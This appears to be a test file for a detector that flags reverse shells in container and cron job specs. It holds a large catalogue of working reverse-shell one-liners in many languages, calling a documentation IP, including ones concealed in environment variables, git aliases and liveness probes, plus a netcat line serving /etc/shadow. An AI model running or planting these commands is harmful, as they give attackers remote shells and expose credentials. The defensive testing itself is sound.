import assert from 'node:assert/strict';
import { test } from 'node:test';
import { NETCATS } from '../../command/network.ts';
import { growth } from '../../lib/testing.ts';
import { blank, cronJob, indicatorTable, passes, runs, script, UNSEEN } from '../testing.ts';
import { commandReverseShell } from './reverse-shell.ts';

const image = 'registry.example.com/shop/web:2';

indicatorTable(commandReverseShell, {
  fires: {
    'a text of the container that env puts in': cronJob({
      containers: [
        {
          name: 'main',
          image: 'debian:12',
          env: [{ name: 'A', value: 'bash -i >& /dev/tcp/203.0.113.84/9001 0>&1' }],
          command: ['/usr/bin/env', '-S', 'bash -c ${A}'],
        },
      ],
    }),
    'a command of git in variables': cronJob({
      containers: [
        {
          name: 'main',
          image: 'alpine/git:2.45',
          env: [
            { name: 'T', value: 'bash -i >& /dev/tcp/203.0.113.84/9001 0>&1' },
            { name: 'GIT_CONFIG_COUNT', value: '1' },
            { name: 'GIT_CONFIG_KEY_0', value: 'alias.refresh' },
            { name: 'GIT_CONFIG_VALUE_0', value: '!bash -c "$T"' },
          ],
          command: ['git', 'refresh'],
        },
      ],
    }),
    'what a shell does before it asks': cronJob({
      containers: [
        {
          name: 'main',
          image: 'debian:12',
          env: [{ name: 'PROMPT_COMMAND', value: 'bash -i >& /dev/tcp/203.0.113.84/9001 0>&1' }],
          command: ['bash'],
          stdin: true,
        },
      ],
    }),
    'code of the debugger of Perl': cronJob({
      containers: [
        {
          name: 'main',
          image: 'perl:5.40',
          env: [{ name: 'PERL5DB', value: 'BEGIN{system("bash","-c","bash -i >& /dev/tcp/203.0.113.84/9001 0>&1")}' }],
          command: ['perl', '-d', '-e', 'print 1'],
        },
      ],
    }),
    'words of a program of Ruby': runs(
      'ruby',
      '-e',
      'exec "bash", "-c", ARGV.join(" ")',
      'bash',
      '-i',
      '>&',
      '/dev/tcp/203.0.113.84/9001',
      '0>&1',
    ),
    'a unit that is written for another machine': script(
      'printf \'[Service]\\nExecStart=/bin/bash -c "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"\\n\' > /images/root/etc/systemd/system/a.service',
    ),
    'bash on its own network device': runs('bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'),
    'an interactive shell whose redirection is mistyped': runs('bash', '-c', 'bash -i >& /dev/tcp/10.1.2.3/443 0&1'),
    'a client of PowerShell that runs each line': runs(
      'pwsh',
      '-w',
      'hidden',
      '-ep',
      'bypass',
      '-Command',
      "$c=New-Object Net.Sockets.TCPClient('203.0.113.7',443);$s=$c.GetStream();while(($i=$s.Read($b,0,512)) -ne 0){$r=iex ([Text.Encoding]::ASCII.GetString($b,0,$i)); $o=iex $r}",
    ),
    'the same behind a dash and with other shells': runs(
      '/bin/sh',
      '-c',
      '--',
      'sh -i 5<> /dev/tcp/203.0.113.7/443 0<&5',
    ),
    'a descriptor and a loop that runs each line': script(
      'exec 5<>/dev/tcp/203.0.113.7/443; while read line 0<&5; do $line 2>&5 >&5; done',
    ),
    'netcat that hands out a shell': runs('nc', '203.0.113.7', '4444', '-e', '/bin/sh'),
    'ncat in shell text': script('ncat --ssl 203.0.113.7 3116 -e /bin/bash;'),
    'ncat as the entrypoint of its image': passes('example/ncat', '203.0.113.7', '8989', '-e', '/bin/bash'),
    'netcat with the option in a cluster': script('nc -lvnpe 4444 /bin/sh'),
    'netcat of busybox that hands out a file': script('nc -l -p 8080 -e /bin/cat /etc/shadow'),
    'netcat that hands out a program of its own': script('nc -lk -p 8080 -e /opt/answer'),
    'netcat of busybox with -c': runs('busybox', 'nc', '203.0.113.7', '4444', '-c', '/bin/sh'),
    'a named pipe and netcat': script(
      'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 9001 >/tmp/f',
    ),
    'a shell fed by netcat': script('nc 203.0.113.7 9001 | sh'),
    'a shell over TLS': script(
      'mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s',
    ),
    'socat in capitals': runs('socat', 'TCP:203.0.113.7:8443', 'EXEC:/bin/bash,pty,stderr'),
    'zsh with a connection of its own': runs(
      'zsh',
      '-c',
      'zmodload zsh/net/tcp; ztcp 203.0.113.7 443; zsh >&$REPLY 2>&$REPLY 0>&$REPLY',
    ),
    'zsh that runs each line': runs(
      'zsh',
      '-c',
      'zmodload zsh/net/tcp;ztcp -l 443;while :;do ztcp -a $REPLY;while read -r c <&$REPLY;do eval $c >&$REPLY;done;done',
    ),
    'rcat with a shell': runs('rcat', 'connect', '-s', '/bin/bash', '203.0.113.7', '443'),
    'socket with a program': runs('socket', '-qvp', '/bin/sh -i', '203.0.113.7', '443'),
    'a shell of inetd': script('echo "x stream tcp nowait root /bin/sh sh" > /tmp/z; inetd -s /tmp/z'),
    'code in the word of its option': script(
      `ruby -rsocket -e'spawn("sh",[:in,:out,:err]=>TCPSocket.new("203.0.113.7",443))'`,
    ),
    'ruby over TLS': runs(
      ...[
        'ruby',
        '-e',
        'c=OpenSSL::SSL::SSLSocket.new(TCPSocket.new("203.0.113.7",443)).connect;while(l=c.gets);IO.popen(l.to_s,"r"){|i|c.print i.read}end',
      ],
    ),
    'perl over TLS': runs(
      'perl',
      '-e',
      '$c=IO::Socket::SSL->new(PeerAddr=>"203.0.113.7:443");while(sysread($c,$i,8192)){syswrite($c,`$i`);}',
    ),
    'R that runs each line': runs(
      ...[
        'R',
        '-e',
        "s<-socketConnection(host='203.0.113.7',port=443,open='r+');while(TRUE){writeLines(readLines(pipe(readLines(s,1))),s)}",
      ],
    ),
    'Tcl that runs each line': script(
      `echo 'set s [socket 203.0.113.7 443];while 1 {gets $s c;catch {exec sh -c $c} r;puts $s $r}' | tclsh`,
    ),
    'Lua with a socket': runs(
      'lua',
      '-e',
      "t=require('socket').tcp();t:connect('203.0.113.7','443');os.execute('/bin/sh -i <&3 >&3 2>&3');",
    ),
    'Julia that runs each line': runs(
      'julia',
      '-e',
      'using Sockets; s=connect("203.0.113.7", 443); while true; c=split(readline(s)); write(s, read(`$c`)); end',
    ),
    'Go by calls of the system': script(
      `printf 'package main\nfunc main(){fd,_:=syscall.Socket(2,1,0);syscall.Connect(fd,a);syscall.Dup2(fd,0);syscall.Exec("/bin/sh",nil,nil)}' > /m.go; go run /m.go`,
    ),
    'a program of C# that it wrote': script(
      `printf 'class A{static void Main(){var c=new TcpClient("203.0.113.7",443);var p=new Process();p.StartInfo.FileName="/bin/bash";p.Start();}}' > a.cs; mcs a.cs && mono a.exe`,
    ),
    'words of a shell that C# starts': script(
      `echo 'class A{void Main(){p.FileName="/bin/bash";p.Arguments="-c \\"bash -i >& /dev/tcp/203.0.113.7/443 0>&1\\"";}}' > a.cs; mcs a.cs`,
    ),
    'a program of Dart that it wrote': script(
      `printf 'main(){Socket.connect("203.0.113.7",443).then((s){s.listen((d){Process.start("/bin/bash",[]);});});}' > a.dart; dart run a.dart`,
    ),
    'a program of Haskell that it wrote': script(
      `printf 'main = callCommand "nc -e /bin/sh 203.0.113.7 443"' > a.hs; runghc a.hs`,
    ),
    'a program of Go that it wrote': script(
      `printf 'package main\nimport ("net";"os/exec")\nfunc main(){c,_:=net.Dial("tcp","203.0.113.7:443");s:=exec.Command("/bin/sh");s.Stdin=c;s.Stdout=c;s.Run()}' > /tmp/m.go; go run /tmp/m.go`,
    ),
    'python with a socket and dup2': runs(
      'python3',
      '-c',
      'import socket,os;s=socket.socket();s.connect(("203.0.113.7",9000));os.dup2(s.fileno(),0);os.system("/bin/sh")',
    ),
    'perl with a socket': runs(
      'perl',
      '-e',
      'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");',
    ),
    'ruby with a socket': runs('ruby', '-rsocket', '-e', 'f=TCPSocket.open("203.0.113.7",4443);exec "/bin/sh -i <&%d"'),
    'php with a socket': runs('php', '-r', '$s=fsockopen("203.0.113.7",443);exec("/bin/sh -i <&3 >&3 2>&3");'),
    'node with a socket': runs(
      'node',
      '-e',
      'var n=require("net"),c=require("child_process"),s=c.spawn("/bin/sh",[]);new n.Socket().connect(80,"203.0.113.7")',
    ),
    'python in a here-document': script(
      'python3 - <<EOF\nimport socket,pty\ns=socket.socket()\npty.spawn("/bin/bash")\n\nEOF',
    ),
    'behind wrappers': script("timeout 60 setsid bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'"),
    'quotes inside the words': script('n\'\'c 203.0.113.7 4444 -e /bin/s"h"'),
    'a connection in a function': script('f() { nc 203.0.113.7 "$1" -e /bin/sh; }; f 4444'),
    'in a liveness probe': cronJob({
      containers: [
        {
          name: 'web',
          image,
          livenessProbe: { exec: { command: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/1 0>&1'] } },
        },
      ],
    }),
    'in an init container': cronJob({
      containers: [{ name: 'web', image }],
      initContainers: [{ name: 'first', image, command: ['nc', '203.0.113.7', '1', '-e', 'sh'] }],
    }),
    'in a script field': cronJob({
      containers: [{ name: 'step', image, script: '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/1 0>&1' }],
    }),
  },
  staysSilent: {
    'a unit that starts an exporter': script(
      "printf '[Service]\\nExecStart=/usr/bin/exporter --web.listen-address=http://0.0.0.0:9100\\n' > /images/root/etc/systemd/system/a.service",
    ),
    'zsh that asks whether somebody listens': runs('zsh', '-c', 'zmodload zsh/net/tcp; ztcp db 5432 && ztcp -c'),
    'rcat that listens': runs('rcat', 'listen', '443'),
    'a service of inetd that is no shell': script(
      'echo "x stream tcp nowait root /usr/sbin/tftpd tftpd" > /tmp/z; inetd /tmp/z',
    ),
    'Tcl that reads from a service': script(`echo 'set s [socket db 5432]; gets $s line; puts $line' | tclsh`),
    'Lua that asks a service and starts a program': runs(
      'lua',
      '-e',
      "local t=require('socket').tcp(); t:connect('db',5432); os.execute('date')",
    ),
    'R that reads from a service': runs('R', '-e', "s<-socketConnection(host='db',port=80); print(readLines(s,1))"),
    'a program of C# that it wrote': script(
      `printf 'class A{static void Main(){var c=new TcpClient("db",5432);System.Console.WriteLine(c.Connected);}}' > a.cs; mcs a.cs`,
    ),
    'letters of options': runs('ruby', '-rsocket', '-ne', 'puts $_'),
    'a program of Go that asks whether somebody listens': script(
      `printf 'package main\nimport "net"\nfunc main(){_,e:=net.Dial("tcp","db:5432");if e!=nil{panic(e)}}' > /tmp/m.go; go run /tmp/m.go`,
    ),
    'an interactive shell that runs a script into a file': script('bash -i /scripts/a.sh >& /var/log/a.log 0&1'),
    'PowerShell that asks whether somebody listens': runs(
      'pwsh',
      '-c',
      "$c=New-Object Net.Sockets.TcpClient('db',5432);if($c.Connected){Write-Output 'up'}",
    ),
    'a port test with the network device': script("timeout 1 bash -c '</dev/tcp/db.example.com/5432' && echo up"),
    'a port test that writes': script('(echo > /dev/tcp/db/5432) >/dev/null 2>&1'),
    'an HTTP request without curl': script('exec 3<>/dev/tcp/web/80; printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3'),
    'netcat that answers with what it gets': runs('nc', '-l', '-k', '-p', '7007', '-e', '/bin/cat'),
    'netcat that tells the time': script('while true; do nc -l -e /bin/date -p 1313; done'),
    'netcat as a port test': script('until nc -z db 5432; do sleep 1; done'),
    'netcat that sends a metric': script('echo "backup.ok 1 $(date +%s)" | nc -w 1 graphite 2003'),
    'a script whose output is sent': script('sh /scripts/metrics.sh | nc graphite 2003'),
    'netcat with TLS': script('echo ok | nc -c monitor.example.com 443'),
    'socat as a relay': runs('socat', 'TCP-LISTEN:8080,fork', 'TCP:db:5432'),
    'python that waits for a port': runs('python3', '-c', 'import socket; socket.create_connection(("db", 5432), 3)'),
    'python that starts a program': runs('python3', '-c', 'import subprocess; subprocess.run(["/bin/sh", "/run.sh"])'),
    'the words in a text that is printed': script("echo 'never run: bash -i >& /dev/tcp/203.0.113.7/443'"),
    'an interactive shell': runs('bash', '-i'),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});

for (const netcat of NETCATS) {
  test(`${netcat} is known`, () =>
    assert.equal(commandReverseShell.assess(runs(`/usr/bin/${netcat}`, '203.0.113.7', '1', '-e', 'sh')).kind, 'hit'));
}

for (const piece of [
  'socket ',
  'nc -e|',
  'sh|nc|',
  '/dev/tcp/',
  'bash -c "',
  '"socket /bin/sh" ',
  'exec 5<>/dev/tcp/a/1;',
  'awk ',
]) {
  test(`linear on repeated ${JSON.stringify(piece)}`, () => {
    const ratio = growth((size) => {
      const text = piece.repeat(Math.ceil(size / piece.length));
      commandReverseShell.assess(script(text));
      commandReverseShell.assess(runs('python3', '-c', text));
    }, 100_000);
    assert.ok(ratio < 12, `four times the text took ${ratio.toFixed(1)} times as long`);
  });
}
